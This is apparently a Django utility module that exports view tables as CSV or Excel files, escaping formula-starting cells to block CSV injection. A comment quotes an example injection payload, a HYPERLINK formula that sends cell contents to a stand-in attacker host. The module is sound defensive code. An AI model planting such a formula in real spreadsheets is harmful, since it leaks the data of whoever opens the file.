"""Any table a user sees can be downloaded as CSV or Excel: one function takes the headers and
rows a view already has and returns the file."""

import csv
import datetime
import decimal
from collections.abc import Callable, Iterable
from dataclasses import dataclass
from operator import itemgetter
from typing import Any

from django.http import HttpResponse, StreamingHttpResponse
from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell

EXPORT_FORMATS = ("csv", "xlsx")


@dataclass(frozen=True)
class Column:
    """One column of a table as the page shows it and its CSV/Excel export writes it: the
    header, and how a row gives its value (a key of a dict row, or a function of the row)."""

    header: str
    value: str | Callable[[Any], Any]

    def of(self, row):
        if callable(self.value):
            return self.value(row)
        return itemgetter(self.value)(row) if isinstance(row, dict) else getattr(row, self.value)


def headers_of(columns: Iterable[Column]) -> list[str]:
    return [column.header for column in columns]


def cells_of(columns: Iterable[Column], rows) -> Iterable[list]:
    """The rows as lists of values in the columns' order: what the page's table and the export
    both show, so the two can never disagree."""
    columns = list(columns)
    return ([column.of(row) for column in columns] for row in rows)


def export_table(export_format: str, filename: str, columns: list[Column], rows):
    """`rows` written as `columns` say, as CSV or Excel."""
    return export_response(export_format, filename, headers_of(columns), cells_of(columns, rows))


class _Echo:
    def write(self, value):
        return value


# OWASP's advice on CSV injection: a spreadsheet reads a cell that starts with one of these as a
# formula (or, for tab and carriage return, a cell that hides one after them). A supplier named
# '=HYPERLINK("http://evil.example/?"&A1,"Click")' must reach the reader as that text.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def inert_csv_cell(value):
    """A value as a CSV cell no spreadsheet evaluates: text that would start a formula gets a
    leading apostrophe (which spreadsheets read as "this is text"); numbers stay numbers."""
    if isinstance(value, decimal.Decimal):
        return f"{value:.2f}"
    if value is None:
        return ""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def append_inert_row(sheet, values):
    """Append `values` to an openpyxl sheet with every text stored as text: openpyxl would
    otherwise write a value starting with "=" as a live formula. Decimals become numbers."""
    values = [float(value) if isinstance(value, decimal.Decimal) else value for value in values]
    if sheet.parent.write_only:
        sheet.append(
            [_text_cell(sheet, value) if isinstance(value, str) else value for value in values]
        )
        return
    sheet.append(values)
    for cell in sheet[sheet.max_row]:
        if isinstance(cell.value, str):
            cell.data_type = "s"


def _text_cell(sheet, value: str) -> WriteOnlyCell:
    cell = WriteOnlyCell(sheet, value=value)
    cell.data_type = "s"
    return cell


def export_response(export_format: str, filename: str, headers: list[str], rows):
    """Stream `rows` (iterables matching `headers`) as `filename`.csv or .xlsx."""
    if export_format == "csv":
        writer = csv.writer(_Echo())

        def lines():
            yield "\ufeff"  # so Excel opens UTF-8 names correctly
            yield writer.writerow([inert_csv_cell(header) for header in headers])
            for row in rows:
                yield writer.writerow([inert_csv_cell(value) for value in row])

        response = StreamingHttpResponse(lines(), content_type="text/csv; charset=utf-8")
    elif export_format == "xlsx":
        workbook = Workbook(write_only=True)
        sheet = workbook.create_sheet(title=filename[:31])
        append_inert_row(sheet, headers)
        for row in rows:
            append_inert_row(sheet, row)
        response = HttpResponse(
            content_type="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
        )
        workbook.save(response)
    else:
        raise ValueError(f"Unknown export format {export_format!r}")
    stamp = datetime.date.today().isoformat()
    response["Content-Disposition"] = f'attachment; filename="{filename}-{stamp}.{export_format}"'
    return response
